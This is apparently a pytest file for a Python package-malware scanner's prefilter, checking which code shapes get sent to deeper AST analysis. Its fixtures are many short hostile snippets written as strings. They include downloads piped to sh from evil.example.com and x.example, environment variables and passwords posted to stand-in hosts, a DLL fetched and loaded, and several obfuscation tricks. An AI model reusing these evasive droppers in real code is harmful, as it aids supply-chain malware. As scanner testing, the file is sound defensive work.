"""The package-mode prefilter: where it sends the AST pass, located in bytes (issue 16)."""

from __future__ import annotations

from pathlib import Path

import pytest

from caplet._findings import Severity
from caplet._scan._aliases import follow, note_binding
from caplet._scan._model import ScanMode
from caplet._scan._prefilter import _FOCUS_FROM, BLIND, Need, Prefilter
from caplet._scan._scanner import scan_tree
from tests._scan.prefilterkit import found_in_a_package


@pytest.fixture(scope="module")
def prefilter() -> Prefilter:
    return Prefilter()


def _line_of(text: str, needle: str) -> int:
    return text[: text.index(needle)].count("\n") + 1


@pytest.mark.parametrize(
    "before",
    [
        "x = 1\n",
        "nom = 'é' * 3  # two bytes a character\n",
        "emoji = '🐍🐍🐍'  # four bytes a character\n",
        "z = '\u202e'\n",
    ],
)
def test_focus_lines_count_characters_not_bytes(prefilter: Prefilter, before: str) -> None:
    # The locators run over the UTF-8 bytes; a line is a line whatever precedes it.
    # (exec of a download: local to the call; a decoder would be the file-wide pair's,
    # decoded data into any sink)
    text = before * 5 + "import requests\nexec(requests.get(url).text)\n" + before
    need = prefilter.check(text)
    assert need == frozenset({_line_of(text, "exec(requests")})


def test_a_lone_surrogate_does_not_break_the_focus(prefilter: Prefilter) -> None:
    # scan_source may be handed a str that is not valid UTF-8.
    text = "s = '\udcff'\nimport requests\nexec(requests.get(url).text)\n"
    assert prefilter.check(text) == frozenset({3})
    assert prefilter.check_text(text) == (frozenset({3}), False)


def test_a_large_file_is_visited_around_every_hit(prefilter: Prefilter) -> None:
    filler = "".join(f"value_{i} = {i}\n" for i in range(_FOCUS_FROM // 12))
    text = (
        "import socket, subprocess\n"
        + filler
        + "data = socket.create_connection(('h', 1)).recv(9)\n"
        + filler
        + "subprocess.Popen(data)\n"
        + "open('x').write(data)\n"
    )
    assert len(text) > _FOCUS_FROM
    need = prefilter.check(text)
    assert isinstance(need, frozenset)
    for needle in ("import socket", ".recv(9)", "subprocess.Popen", ".write(data)"):
        assert _line_of(text, needle) in need, needle
    assert len(need) < 10


def test_located_patterns_give_every_line_the_alternation_gives(prefilter: Prefilter) -> None:
    # One pattern at a time (only those the set found) against one alternation of all:
    # a match of one pattern can no longer hide another's, so the lines are a superset.
    text = "".join(
        [
            "import socket\n",
            "h = socket.gethostname(); requests.post(URL, data=h)\n",
            "os.system('curl x | sh')  # wget too\n",
            "copy2(src, 'a.exe'); os.startfile('a.exe')\n",
            "path = '~/.ssh/id_rsa'\n",
        ]
        * 400
    )
    encoded = text.encode()
    matched = prefilter._set.Match(encoded) or []
    every = prefilter.hit_lines(text, 10_000)
    located = prefilter.hit_lines(text, 10_000, matched, encoded)
    assert every is not None
    assert located is not None
    assert every <= located
    assert len(located) == 2000


def test_a_file_without_threat_tokens_needs_nothing(prefilter: Prefilter) -> None:
    text = "def add(a, b):\n    return a + b\n" * 2000
    assert prefilter.check(text) is Need.NOTHING


def test_a_name_bound_on_a_hit_line_is_followed_to_its_uses(prefilter: Prefilter) -> None:
    text = (
        "import builtins\n"
        "ns = vars(builtins)\n"
        "\n"
        "def run(code, key):\n"
        "    return ns[key](code)\n"
        "\n"
        "unrelated = 1\n"
    )
    assert prefilter.check(text) == frozenset({2, 5})


@pytest.mark.parametrize(
    "binding",
    [
        "x = 1; ns = vars(builtins)",
        "x = ns = vars(builtins)",
        "if (ns := vars(builtins)):",
        "(x, ns) = 1, vars(builtins)",
        "ns" + " " * 300 + "= vars(builtins)",
        "with vars(builtins) as ns:",
    ],
)
def test_every_name_a_hit_line_may_bind_is_followed(prefilter: Prefilter, binding: str) -> None:
    # not only the first target at the start of the line: a second statement, a second
    # target, :=, a target list, padding, a with's as
    text = (
        f"import builtins\n{binding}\n    pass\n\ndef run(code, key):\n    return ns[key](code)\n"
    )
    need = prefilter.check(text)
    assert isinstance(need, frozenset)
    assert {2, 6} <= need


def test_a_hit_line_binding_too_many_names_makes_the_whole_file_visited(
    prefilter: Prefilter,
) -> None:
    # a minified line: following each of its names would cost a pass over the file each
    names = "; ".join(f"v{i} = vars(builtins)" for i in range(40))
    assert prefilter.check(f"import builtins\n{names}\n") is Need.FULL


def test_a_name_used_everywhere_makes_the_whole_file_visited(prefilter: Prefilter) -> None:
    text = "import builtins\nx = vars(builtins)\n" + "print(x)\n" * 100
    assert prefilter.check(text) is Need.FULL


def test_each_set_is_asked_and_the_answers_numbered_as_one(prefilter: Prefilter) -> None:
    # solo patterns and pairs live in two RE2 sets; a hit of each keeps its own index
    text = "exec(b64decode(x)); post('https://discord.com/api/webhooks/1/a')"
    assert prefilter.engine_answers(text)
    assert not prefilter.engine_answers("exec(b64decode(x))")  # the solo set finds nothing
    found = prefilter._set.Match(text.encode())
    assert any(i < prefilter._solo for i in found)
    assert any(prefilter._solo <= i < prefilter._auditor for i in found)


class _FailedSet:
    """An RE2 set whose DFA failed: ``RE2::Set::Match`` then answers "no match" and
    google-re2's wrapper drops the error (re2/set.cc, kOutOfMemory). Not provoked for
    real: with 64 MiB the sets' DFA resets its cache and goes on, so only the answer
    it would give can stand here."""

    def Match(self, data: bytes) -> list[int]:
        return []


def test_a_set_that_fails_is_the_whole_file_not_a_clean_one() -> None:
    # Attack (prefast's report): a failed set looked exactly like a file without a
    # threat token, so a file that ran the DFA out of memory was never parsed.
    prefilter = Prefilter()
    dropper = "import os\nos.system(__import__('base64').b64decode(x))\n" + "y = 1\n" * 3000
    assert prefilter.check_text(dropper)[0] is not Need.NOTHING
    for index, (owners, _) in enumerate(prefilter._set.parts):
        prefilter._set.parts[index] = (owners, _FailedSet())
    assert prefilter._set.Match(dropper.encode()) == [BLIND]
    assert prefilter.check_text(dropper) == (Need.FULL, True)  # whole, not around hits
    assert prefilter.check("x = 1\n") is Need.FULL  # even text that has no token
    assert prefilter.check("\uff58 = 1\n") is Need.FULL  # and its NFKC fold
    assert not prefilter.engine_answers("exec(b64decode(x))")


def test_the_sentinel_is_no_pattern_of_the_callers(prefilter: Prefilter) -> None:
    assert prefilter._set.Match(b"x = 1\n") == []
    assert prefilter.check_text("x = 1\n") == (Need.NOTHING, False)
    assert BLIND not in prefilter._set.Match(b"exec(b64decode(x))")


@pytest.mark.parametrize(
    "text",
    [
        # decoders and sinks added by branch recall (issue 16): each alone must reach the AST
        "buf = bytearray(D)\nfor i in range(len(buf)):\n    buf[i] ^= K[i % 3]\nexec(bytes(buf))\n",
        "o = ''\nfor c in E:\n    o += chr((ord(c) - 3) % 256)\nexec(o)\n",
        "import codecs, os\nos.system(codecs.decode(H, 'hex'))\n",
        "import base64, os\nos.system(base64.urlsafe_b64decode(H))\n",
        "import os\nos.system(''.join(chr(c) for c in C))\n",
        "import os\nos.popen('hs | x'[::-1])\n",
        "import os, base64\nos.execvp('sh', ['sh', '-c', base64.b64decode(C)])\n",
        "import pickle, base64\npickle.loads(base64.b64decode(P))\n",
        "import subprocess\np = subprocess.Popen(['python3'], stdin=subprocess.PIPE)\n"
        "p.communicate(SRC)\n",
        "import subprocess, sys\nsubprocess.run([sys.executable, '-'], input=SRC)\n",
        # found by benchmarks/mutate_recall.py (issue 16): a bot framework imported by a
        # call, and builtins looked up by __getattribute__
        "import os\ntelebot = __import__('telebot')\nos.system(m.text)\n",
        "import os, importlib\nt = importlib.import_module('telebot')\nos.system(m.text)\n",
        "__builtins__.__getattribute__(_j('ec', 'ex'))(S)\n",
        "import builtins\nobject.__getattribute__(builtins, f(N))(S)\n",
    ],
)
def test_each_new_technique_alone_needs_the_ast(prefilter: Prefilter, text: str) -> None:
    assert prefilter.check(text) is not Need.NOTHING


def test_the_one_alternation_locator_has_the_sets_memory(prefilter: Prefilter) -> None:
    # At RE2's default 8 MiB its DFA ran out of memory on every large file of
    # kubernetes' sdist: a "DFA out of memory" line on stderr each time, and
    # the slow NFA instead (21 s for the sdist, 12 s with the sets' 64 MiB).
    prefilter.hit_lines("import os\n" + "x = 1\n" * 10, 100)
    locator = prefilter._all_locator
    assert locator is not None
    assert locator.options.max_mem >= 64 << 20


def _located_one_index_at_a_time(
    prefilter: Prefilter, matched: list[int], data: bytes, limit: int
) -> frozenset[int] | None:
    """The lines as hit_lines found them before patterns were shared: each index alone
    (a deferred pattern the set's answer lacks may still be in ``data``: located too)."""
    lines: set[int] = set()
    bound: set[bytes] = set()
    seen: set[int] = set()
    maybe = {i for owners in prefilter._deferred.values() for i in owners}
    for index in sorted(
        {i for i in matched if i < prefilter._auditor} | maybe | set(prefilter._focus_only)
    ):
        for match in prefilter._locator(index).finditer(data):
            lines.add(data.count(b"\n", 0, max(match.start(), match.end() - 1)) + 1)
            if index in prefilter._aliasing:
                assert note_binding(data, match.start(), bound, seen)
    assert follow(data, bound, lines, limit)
    return frozenset(lines)


def test_a_pattern_pairs_share_is_located_once_with_the_same_lines(
    prefilter: Prefilter, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The network modules, the process calls, the payloads and getattr of a module
    # by a variable are each a half of several pairs; the lines of each are located
    # once, and a binding on a line of the shared getattr is still followed to its
    # use far below (the one pair that shares it follows, the other does not).
    text = (
        "import os, socket, subprocess\n"
        "run = getattr(os, name)\n"
        + "def f(x):\n    return socket.socket().connect(x)\n" * 300
        + "data = zlib.decompress(blob)\n"
        + "subprocess.Popen(cmd)\n"
        + "def g(y):\n    return y * 2\n" * 300
        + "run(data)\n"
    )
    encoded = text.encode()
    matched = prefilter._set.Match(encoded) or []
    patterns = [prefilter._patterns[i] for i in matched]
    assert len(patterns) > len(set(patterns))  # shared patterns are hit
    expected = _located_one_index_at_a_time(prefilter, matched, encoded, 10_000)
    located: list[str] = []
    locate = prefilter._locator

    def counted(index: int) -> object:
        located.append(prefilter._patterns[index])
        return locate(index)

    monkeypatch.setattr(prefilter, "_locator", counted)
    lines = prefilter.hit_lines(text, 10_000, matched, encoded)
    assert sorted(located) == sorted(set(located))
    assert lines == expected
    assert lines is not None
    assert text.count("\n") in lines  # run(data), the use of the name getattr bound


def test_a_code_object_compiled_on_a_hit_line_is_followed_to_where_it_runs(
    prefilter: Prefilter,
) -> None:
    # Found by tests/_scan/test_prefilter_trees.py on the tuned sample
    # ds-xor-functiontype: compile() is a local hit, so only its line was visited,
    # and the function built from the code object and called two lines below (a
    # DANGER of the whole-file pass) was never seen.
    text = (
        "import types\n"
        "_s = bytes(b ^ 90 for b in BLOB)\n"
        "_c = compile(_s, '<m>', 'exec')\n"
        "\n"
        "def unrelated():\n"
        "    return 1\n"
        "\n"
        "types.FunctionType(_c, globals())()\n"
    )
    need = prefilter.check(text)
    # Hand-XORed bytes beside a sink now send the whole file to the AST pass
    # (recall work, issue 16); either way the line that runs the code is visited.
    assert need is Need.FULL or (isinstance(need, frozenset) and {3, 8} <= need)


@pytest.mark.parametrize(
    "text",
    [
        # pip install named in a message: no process call runs it (CPL-THR-019 is checked
        # on process calls only), issue 16: a quarter of the benign bytes parsed for it alone
        "def need():\n    raise ImportError('numpy is missing: pip install numpy')\n",
        "HINT = ['pip', 'install', 'caplet']  # printed, never run\n",
        # a credential parameter and a clear-text URL, nothing that sends (CPL-THR-026 is
        # checked on egress calls only)
        "def login(user, password):\n    return 'http://example.org/login?u=' + user\n",
        # a downloader or a fresh interpreter named in prose: nothing runs them
        '"""Install it with: curl -fsSL https://example.org/x.sh | sh"""\n',
        "USAGE = 'python -c \"import caplet\"'\nHELP = ['python3', '-c', 'print(1)']\n",
        "import sys\nWHERE = sys.executable\nFLAGS = ['-c']\n",
        # a stack that is not the interpreter's (inspect.stack is reconnaissance)
        "import numpy as np, requests\nx = np.stack(parts)\nrequests.get(URL)\n",
        # the network, a process and exec named in prose only (branch decide, issue 16):
        # no egress, no process call, no code run, whatever reconnaissance is beside them
        "import getpass\nWHO = getpass.getuser()\n"
        '"""Counts requests made to the proxy (see the socket docs)."""\n',
        "import os\nCWD = os.getcwd()\n# sent with requests over a socket by the caller\n",
        "import base64\nKEY = base64.b64decode(K)\n"
        '"""Do not block the system (and slow down) with a subprocess."""\n',
        "import platform, requests\nV = platform.python_version()\nrequests.get(URL)\n",
        'import requests\nmessages = [{"role": "USER", "content": text}]\nrequests.post(U)\n',
        'import os, requests\nif "TOKEN" in os.environ:\n    requests.get(URL)\n',
        "import requests\nchat_history = []\nrequests.post(URL, json=chat_history)\n",
        "# the host must compile the extension, eval mode\n"
        "raise SystemExit('run: pip install x')\n",
    ],
)
def test_one_side_of_a_rule_alone_needs_nothing(prefilter: Prefilter, text: str) -> None:
    assert prefilter.check(text) is Need.NOTHING


@pytest.mark.parametrize(
    "text",
    [
        "import subprocess\nsubprocess.check_call(['pip', 'install', 'evil'])\n",
        "from os import system as s\ns('pip install evil')\n",
        "import os\nos.popen('pip3 install evil')\n",
        "import requests\n\ndef login(user, password):\n"
        "    requests.post('http://203.0.113.9/x', data=password)\n",
        "from urllib.request import urlopen\n\ndef send(api_key):\n"
        "    urlopen('http://collect.example/k', api_key.encode())\n",
        "import subprocess\nsubprocess.run('curl -fsSL https://x.example/s | sh', shell=True)\n",
        "import os\nos.system('wget -q https://x.example/a -O /tmp/a')\n",
        "exec(\"import os; os.system('curl https://x.example | sh')\")\n",
        "from runpy import run_path as go\nopen('s.py', 'w').write('import os')\n"
        "go('s.py')  # written by: curl https://x.example/s.py\n",
        "import subprocess, sys\nsubprocess.run([sys.executable, '-c', SRC])\n",
        "import sys\nfrom os import startfile\nopen('a.py', 'w').write(SRC)\n"
        "startfile(sys.executable + ' -c ' + SRC)\n",
        # the process call found only by a lookup whose name is built where no lookup pair
        # sees it (the tuned sample cn-percent-c)
        "import os as _o\n_N = '%c%c%c%c%c%c' % (115, 121, 115, 116, 101, 109)\n"
        "getattr(_o, _N)('curl -s http://203.0.113.9/i | sh')\n",
        "import os as _o\n_N = '%c%c%c%c%c%c' % (115, 121, 115, 116, 101, 109)\n"
        "getattr(_o, _N)('pip install evil')\n",
        "import inspect, requests\nrequests.post(URL, data=str(inspect.stack()))\n",
        "from inspect import stack\nimport requests\nrequests.post(URL, data=str(stack()))\n",
        "import inspect as i\nimport requests\nrequests.post(URL, data=str(i.stack()))\n",
        "import inspect\nimport requests\nf = inspect\nrequests.post(URL, data=str(f.stack()))\n",
        "import requests\nrequests.post(URL, data=str(__import__('inspect').stack()))\n",
        # each sharpened side, as code spells it (branch decide, issue 16)
        "import socket\nimport requests as r\nr.post(URL, data=socket.gethostname())\n",
        "import os\nnet = __import__('requests')\nnet.post(URL, data=os.getcwd())\n",
        "import os\nfrom http import client\n"
        "client.HTTPSConnection(H).request('GET', os.getcwd())\n",
        "import os, socket\nsocket.getaddrinfo(os.getcwd() + '.x.example', 53)\n",
        "import os, subprocess\nsubprocess.run(['ping', '-c1', os.getcwd() + '.x.example'])\n",
        "import os\nos.system('nslookup ' + os.getlogin() + '.x.example')\n",
        "import platform, requests\nrequests.post(URL, data=platform.node())\n",
        "from platform import node\nimport requests\nrequests.post(URL, data=node())\n",
        "import platform as p, requests\nrequests.post(URL, data=p.node())\n",
        "import os, requests\nrequests.post(URL, data=os.environ['USER'])\n",
        "from os import getenv\nimport requests\nrequests.post(URL, data=getenv('HOME'))\n",
        "import os, requests\nrequests.post(URL, json=[k for k\n in os.environ])\n",
        "import os, requests\nfor (k) in os.environ:\n    requests.post(URL, data=k)\n",
        "import requests\nrequests.post(URL, data=open(HOME + '/.bash_history').read())\n",
        "import base64, os\nos.system(base64.b64decode(P))\n",
        "import base64\nfrom subprocess import Popen as run\nrun(base64.b64decode(P))\n",
        "k = 7\nimport ctypes\nctypes.CDLL(bytes(b ^ k for b in blob))\n",
        "import requests\nexec(requests.get(URL).text)\n",
        "import urllib.request as u\nexec(u.urlopen(URL).read())\n",
        "run = eval\nimport subprocess\nrun('pip install evil')\n",
        "x = [eval]\nx[0]('pip install evil')\nimport os\n",
    ],
)
def test_both_sides_of_a_rule_need_the_ast(prefilter: Prefilter, text: str) -> None:
    assert prefilter.check(text) is not Need.NOTHING


# -- recall5 (issue 16, computed names): spellings the mutation testing found unseen ----


@pytest.mark.parametrize(
    "text",
    [
        # tune cn6-cjk-import-as-pip: pip under another name
        "import pip as 包管理\n包管理.main(['install', 'stage2'])\n",
        # tune cn6-sysmodules-builtins-dict: builtins by its module's name
        "import sys\nb = sys.modules['builtins']\nn = 'ev' + 'al'\nb.__dict__[n]('1')\n",
        # tune cn6-cjk-getattr-alias and -builtins: getattr bound to another name
        "import os\n取 = getattr\n取(os, 'sys' + 'tem')('id')\n",
        "甲 = getattr\n乙 = 甲(__builtins__, '__imp' + 'ort__')\n",
        # tune cn6-import-module-fstring-chr: an importer given an f-string of code points
        "import importlib\na = chr(111)\nb = chr(115)\nimportlib.import_module(f'{a}{b}')\n",
        # tune cn6-attrgetter-var: attrgetter given a name built on another line
        "import operator, builtins\nn = 'ex' + 'ec'\noperator.attrgetter(n)(builtins)('1')\n",
        # tune cn6-partial-getattr and cn6-lambda-getattr
        "import functools, os\nf = functools.partial(getattr, os)\nf(name)\n",
        "import builtins\ng = lambda o, n: getattr(o, n)\ng(builtins, 'ex' + 'ec')\n",
        # junk characters removed from a literal, beside a process call
        "import os\nos.system('c#u#r#l -s https://x.example/a | sh'.replace('#', ''))\n",
    ],
)
def test_computed_names_by_another_spelling_need_the_ast(prefilter: Prefilter, text: str) -> None:
    assert prefilter.check(text) is not Need.NOTHING


@pytest.mark.parametrize(
    "text",
    [
        # the same spellings in benign shapes: a written-out name, no pieces, no sink
        "import pip\nprint(pip.__version__)\n",
        "_getattr = getattr\nvalue = _getattr(obj, 'name')\n",
        "import importlib\nmod = importlib.import_module(f'{pkg}.plugins')\n",
        "import operator\nkey = operator.attrgetter(field)\nrows.sort(key=key)\n",
        "words = ''.join(['a', 'b'])\nprint(words)\n",
        "g = lambda o, n: getattr(o, n)\nprint(g(cfg, 'timeout'))\n",
        # getattr as a parameter's default, a key function given a lambda (codecs.py)
        "def f(x, getattr=getattr):\n    return getattr(x, 'name')\nlabel = 'a' + 'b'\n",
        "rows.sort(key=lambda o: getattr(o, 'n'))\nlabel = 'a' + 'b'\n",
        "import importlib\nmod = importlib.import_module(name)\nlabel = 'a' + 'b'\n",
    ],
)
def test_the_same_spellings_in_benign_shapes_need_nothing(prefilter: Prefilter, text: str) -> None:
    assert prefilter.check(text) is Need.NOTHING


# -- attack5: a fetched second stage run, or the environment sent, spelled so that a pair's
# -- hand-written side missed it while the whole-file pass found the threat ----------------

_URL = "urllib.request.urlopen('https://x.example/s').read().decode()"


@pytest.mark.parametrize(
    "text",
    [
        # the process call is not "Popen(" / "system(": looked up, parenthesised, renamed
        f"import subprocess, urllib.request\ngetattr(subprocess, 'Popen')({_URL}, shell=True)\n",
        f"import urllib.request\nimport os\n(os  # the shell\n .system)({_URL})\n",
        f"import urllib.request\nfrom os import (\n    path,\n    system as run,\n)\nrun({_URL})\n",
        # the module under another name and a call every module has (run)
        f"import subprocess as sp\nimport urllib.request\nsp.run({_URL}, shell=True)\n",
        f"from subprocess import run as go\nimport urllib.request\ngo({_URL}, shell=True)\n",
    ],
)
def test_a_fetched_stage_run_by_any_spelling_of_a_process_call_needs_the_ast(
    prefilter: Prefilter, text: str, tmp_path: Path
) -> None:
    _needs_the_ast_and_finds(prefilter, text, tmp_path, "CPL-THR-002")


def _needs_the_ast_and_finds(prefilter: Prefilter, text: str, tmp_path: Path, rule: str) -> None:
    """The prefilter sends ``text`` to the AST pass, and the package scan finds ``rule``."""
    assert prefilter.check(text) is not Need.NOTHING
    (tmp_path / "mod.py").write_text(text)
    danger = {
        f.rule_id
        for f in scan_tree(tmp_path, mode=ScanMode.PACKAGE).findings
        if f.severity is Severity.DANGER
    }
    assert rule in danger


@pytest.mark.parametrize(
    "text",
    [
        # the whole environment as a value, not "dict(os.environ" / "for ... in os.environ"
        "import os, requests\nrequests.post('https://x.example/c', data=dict( os . environ ))\n",
        "import os, requests\nrequests.post('https://x.example/c', data=dict(os.environb))\n",
        "from os import environ as E\nimport requests\n"
        "requests.post('https://x.example/c', data=dict(E))\n",
        "import os, requests\ne = os.environ\nrequests.post('https://x.example/c', data=e)\n",
        "import os, json, urllib.request\n"
        "urllib.request.urlopen('https://x.example/c', json.dumps({**os .environ}).encode())\n",
    ],
)
def test_the_environment_sent_by_any_spelling_needs_the_ast(
    prefilter: Prefilter, text: str, tmp_path: Path
) -> None:
    _needs_the_ast_and_finds(prefilter, text, tmp_path, "CPL-THR-006")


@pytest.mark.parametrize(
    "text",
    [
        # one key read, tested or written beside the network: no rule fires
        "import os, requests\nif 'CI' in os.environ:\n    requests.get(os.environ['URL'])\n",
        "import os, requests\nrequests.get(os.environ.get('URL', 'https://x.example'))\n",
        "import os, requests\nos.environ.setdefault('NO_PROXY', '*')\nrequests.get(U)\n",
    ],
)
def test_one_environment_key_beside_the_network_needs_nothing(
    prefilter: Prefilter, text: str
) -> None:
    assert prefilter.check(text) is Need.NOTHING


def test_a_process_named_in_prose_beside_the_network_needs_nothing(prefilter: Prefilter) -> None:
    # jupyter-server's gateway/managers.py: "(e.g. Popen kwargs)" in a docstring
    text = 'import websocket\n\ndef start(**kw):\n    """Launch it (e.g. Popen kwargs)."""\n'
    assert prefilter.check(text) is Need.NOTHING


# -- attack6: a lookup imported or bound under another name ---------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "from importlib import import_module as im\nm = im('o' + 's')\nm.system('id')\n",
        "from importlib import (\n    reload,\n    import_module as im,\n)\n"
        "m = im('o' + 's')\nm.system('id')\n",
        "from builtins import __import__ as imp\nm = imp('o' + 's')\nm.system('id')\n",
        "import os\nfrom builtins import getattr as ga\nga(os, 'sys' + 'tem')('id')\n",
        "import os\nfrom builtins import getattr as ga\n"
        "ga(os, '{}{}'.format('sys', 'tem'))('id')\n",
        "import os\nfrom builtins import getattr as ga\nn = 'metsys'[::-1]\nga(os, n)('id')\n",
        "import os\nfrom operator import attrgetter as ag\nag('sys' + 'tem')(os)('id')\n",
        "import os\nfrom operator import methodcaller as mc\nmc('sys' + 'tem', 'id')(os)\n",
        "import importlib\nim = importlib.import_module\nm = im('o' + 's')\nm.system('id')\n",
        "import os, operator\nag = operator.attrgetter\nag('sys' + 'tem')(os)('id')\n",
    ],
)
def test_a_lookup_imported_under_another_name_needs_the_ast(
    prefilter: Prefilter, text: str, tmp_path: Path
) -> None:
    _needs_the_ast_and_finds(prefilter, text, tmp_path, "CPL-THR-003")


@pytest.mark.parametrize(
    "text",
    [
        # the same imports with nothing built (beartype, kubernetes, virtualenv): parsed
        # (the import alone sends the file: the name may be built by any piece), not danger
        "from importlib import import_module as _im\nmod = _im(name)\n",
        "from operator import methodcaller as method\nup = method('upper')\n",
        "import operator\nkey = operator.attrgetter\nrows.sort(key=key('n'))\n",
    ],
)
def test_a_lookup_imported_under_another_name_with_nothing_built_is_no_danger(
    prefilter: Prefilter, text: str, tmp_path: Path
) -> None:
    assert prefilter.check(text) is Need.FULL
    (tmp_path / "mod.py").write_text(text)
    report = scan_tree(tmp_path, mode=ScanMode.PACKAGE)
    assert report.files_parsed == 1
    assert not [f for f in report.findings if f.severity is Severity.DANGER]


#: attack8: a download piped to a shell whose downloader's word is computed.
_COMPUTED_DOWNLOADER = {
    "code-point": "os.system(chr(99) + 'url -s https://evil.example.com/x | sh')\n",
    "formatted": "os.system('{}url -s https://evil.example.com/x | sh'.format('c'))\n",
    "percent": "os.system('%surl -s https://evil.example.com/x | sh' % 'c')\n",
    "f-string": "c = 'c'\nos.system(f'{c}url -s https://evil.example.com/x | sh')\n",
    "multiplied": "os.system('c' * 1 + 'url -s https://evil.example.com/x | sh')\n",
}


@pytest.mark.parametrize("shape", sorted(_COMPUTED_DOWNLOADER))
def test_a_download_piped_to_a_shell_with_a_computed_downloader_needs_the_ast(
    shape: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = "import os\n" + _COMPUTED_DOWNLOADER[shape]
    found_in_a_package(tmp_path, monkeypatch, text, "CPL-THR-015")


# -- blind8 (issue 16 point 1): a code-object loader under another name beside a decoder ----


@pytest.mark.parametrize(
    "text",
    [
        "import marshal as m, zlib\nimport types\n"
        "types.FunctionType(m.loads(zlib.decompress(B)), globals())()\n",
        "from marshal import loads as L\nimport base64\nf = L(base64.b85decode(B))\n",
        "import types as t\nimport zlib\nt.FunctionType(code_of(zlib.decompress(B)), {})()\n",
    ],
)
def test_a_code_object_loader_under_another_name_beside_a_decoder_needs_the_ast(
    prefilter: Prefilter, text: str
) -> None:
    assert prefilter.check(text) is not Need.NOTHING


@pytest.mark.parametrize(
    "text",
    [
        # the loader without a decoder (a cache of code objects), a decoder without it
        "import pickle as pk\nstate = pk.dumps(obj)\n",
        "import types, copy\nf2 = types.FunctionType(f.__code__, f.__globals__)\n",
        "import base64\nKEY = base64.b85decode(K)\n",
    ],
)
def test_a_code_object_loader_or_a_decoder_alone_needs_nothing(
    prefilter: Prefilter, text: str
) -> None:
    assert prefilter.check(text) is Need.NOTHING


# -- attack9 (issue 16): a decoded name looked up in a namespace ------------------------
_DECODED_NAMESPACE = {
    "bound-view": "import base64, os\nns = vars(os)\n"
    "k = base64.b64decode('c3lzdGVt').decode()\nns[k]('id')\n",
    "bound-dict": "import base64, builtins\nb = builtins\nns = b.__dict__\n"
    "k = base64.b64decode('ZXZhbA==').decode()\nns[k]('1+1')\n",
    "imported-dict": "import base64, importlib\nk = base64.b64decode('ZXZhbA==').decode()\n"
    "importlib.import_module('builtins').__dict__[k]('1+1')\n",
}


@pytest.mark.parametrize("shape", sorted(_DECODED_NAMESPACE))
def test_a_decoded_name_looked_up_in_a_namespace_needs_the_ast(
    shape: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    found_in_a_package(tmp_path, monkeypatch, _DECODED_NAMESPACE[shape], "CPL-THR-003")


@pytest.mark.parametrize(
    "text",
    [
        # a namespace read by a name written out, beside a decoder
        "import base64, os\nsep = vars(os)['sep']\ndata = base64.b64decode(B)\n",
        # a namespace bound to a name, no decoder
        "import os\nns = vars(os)\nfn = ns[name]\n",
    ],
)
def test_a_namespace_or_a_decoder_alone_needs_nothing(prefilter: Prefilter, text: str) -> None:
    assert prefilter.check(text) is Need.NOTHING


# -- blind18: a download loaded as a library or run as a file (b18-dr-dll-ctypes-appdata) ------


@pytest.mark.parametrize(
    "text",
    [
        "import ctypes, os, urllib.request\n"
        "def native():\n    dest = os.path.join(os.getenv('APPDATA'), 'm.dll')\n"
        "    data = urllib.request.urlopen('http://203.0.113.77/x.bin').read()\n"
        "    with open(dest, 'wb') as fh:\n        fh.write(data)\n    ctypes.WinDLL(dest)\n"
        "native()\n",
        "import runpy, tempfile, requests\nt = tempfile.mktemp(suffix='.py')\n"
        "open(t, 'wb').write(requests.get('https://x.example/s').content)\nrunpy.run_path(t)\n",
    ],
)
def test_a_download_loaded_or_run_as_a_file_needs_the_ast(
    text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    found_in_a_package(tmp_path, monkeypatch, text, "CPL-THR-002")


def test_a_library_loaded_beside_the_network_without_a_download_stays_clean(
    tmp_path: Path,
) -> None:
    (tmp_path / "mod.py").write_text(
        "import ctypes, ctypes.util, requests\nlibc = ctypes.CDLL(ctypes.util.find_library('c'))\n"
        "def fetch(url):\n    return requests.get(url, timeout=5).json()\n"
    )
    assert not [
        f
        for f in scan_tree(tmp_path, mode=ScanMode.PACKAGE).findings
        if f.severity is Severity.DANGER
    ]
